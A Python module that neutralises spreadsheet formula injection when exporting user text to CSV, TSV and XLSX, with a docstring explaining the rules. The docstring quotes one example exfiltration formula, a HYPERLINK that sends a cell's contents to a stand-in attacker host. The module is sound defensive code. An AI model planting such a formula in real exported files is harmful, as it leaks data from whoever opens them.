"""Text a user sent is never written back as a live spreadsheet formula (OWASP's CSV injection).

A review cell such as ``=HYPERLINK("http://evil.example/?leak="&A2,"click")`` would run in the shop's
Excel when the tagged file is opened. Every writer of tables goes through here (``tables.TableWriter``;
the page's own CSV download, ``csvCell`` in ``static/bulk.js``, applies the same rule):

- CSV and TSV: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading ``'``, which spreadsheets show as text (so ``-5`` read from a CSV goes out as ``'-5``; numbers
  the service computes are numbers, never prefixed);
- XLSX: such a cell is written as a text cell, never a formula, and its text is kept exactly;
- JSON lines carry the text exactly: no spreadsheet evaluates them.

Control characters that XML cannot hold are removed from XLSX cells, and a nested JSON value (a JSON
lines input written to a spreadsheet) becomes its JSON text.
"""
from __future__ import annotations

import json

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def risky(value: object) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def flat(value: object) -> object:
    """A value a spreadsheet cell can hold: nested lists and objects as their JSON text."""
    if isinstance(value, (dict, list, tuple)):
        return json.dumps(value, ensure_ascii=False, default=str)
    return value


def csv_cell(value: object) -> object:
    value = "" if value is None else flat(value)
    return "'" + value if risky(value) else value


def xlsx_cell(sheet, value: object):
    """A write-only worksheet cell: text that looks like a formula is typed as text."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = flat(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell
